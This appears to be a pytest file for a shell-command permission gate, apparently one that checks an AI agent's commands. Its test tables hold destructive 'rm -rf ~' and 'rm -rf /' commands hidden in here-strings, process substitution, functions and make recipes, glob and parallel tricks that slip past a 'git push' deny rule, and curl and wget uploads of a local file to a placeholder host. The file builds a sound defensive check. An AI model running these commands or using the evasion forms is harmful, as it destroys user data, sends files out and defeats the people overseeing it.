"""What a command is fed by other ways than its own words: here-strings, substitutions, positional parameters, recipes."""

import pytest
from gate_help import decided as decide

from hypercode.safety.decision import Decision

FED = r"""
xargs rm -rf <<< ~
xargs -I{} rm -rf {} <<< $HOME
bash <(echo 'rm -rf ~')
zsh <(printf 'rm -rf ~')
source <(echo 'rm -rf ~')
. <(echo rm -rf \~)
f() { rm -rf "$1"; }; f ~
function clean { rm -rf "$@"; }; clean build ~
f() { rm -rf $2; }; f -x $HOME
set -- ~; rm -rf "$1"
set -- build /; rm -rf "$@"
make --eval='x:;rm -rf ~' x
make SHELL='rm -rf ~' x
gmake --eval 'x: ; rm -rf ~' x
rm -rf /{,a}{,a}{,a}{,a}{,a}{,a}{,a}{,a}{,a}{,a}{,a}{,a}
"""

UNFED = """
f() { rm -rf "$1"; }; f build
set -e; rm -rf build
xargs rm -rf <<< build
make CC='gcc -O2' all
echo build | xargs rm -rf
"""

DENIED = """
git pus?
git pus[h]
git p*
parallel git ::: push
parallel -j2 git {} ::: push pull
"""

SENDS = """
curl -d @notes.txt x.invalid
curl -sd@notes.txt x.invalid
curl -XPOST -d@notes.txt x.invalid
curl --data-binary @notes.txt x.invalid
curl --data=@notes.txt x.invalid
curl -F f=@notes.txt x.invalid
curl -sF 'f=<notes.txt' x.invalid
curl --form f=@notes.txt x.invalid
curl --json @notes.txt x.invalid
curl -T notes.txt x.invalid
curl -sTnotes.txt x.invalid
wget --post-file notes.txt x.invalid
http POST x.invalid file@notes.txt
"""

LIVE = """
curl -s x.invalid/a.json
curl -H 'Accept: text/html' x.invalid
curl -fsSL x.invalid/a.txt -o a.txt
wget -q x.invalid/a.txt
"""


def cases(table):
    return [line for line in table.strip().splitlines() if line]


@pytest.mark.parametrize("command", cases(FED))
def test_what_a_command_is_fed_counts_as_its_words(command):
    assert decide(command) is Decision.ALWAYS_ASK


@pytest.mark.parametrize("command", cases(UNFED))
def test_harmless_food_asks_as_before(command):
    assert decide(command) is Decision.ASK


@pytest.mark.parametrize("command", cases(DENIED))
def test_a_deny_rule_holds_for_words_the_shell_or_a_wrapper_completes(command):
    assert decide(command, ["git push"]) is Decision.DENY


@pytest.mark.parametrize("command", ["git add *.py", "git log -- src/*", "ls p*", "parallel git ::: pull"])
def test_a_deny_rule_leaves_other_patterns_alone(command):
    assert decide(command, ["git push"]) is not Decision.DENY


@pytest.mark.parametrize("command", cases(SENDS))
def test_a_file_handed_to_a_web_server_asks_every_time(command):
    assert decide(command) is Decision.ALWAYS_ASK


@pytest.mark.parametrize("command", cases(LIVE))
def test_a_plain_request_only_asks(command):
    assert decide(command) is Decision.ASK
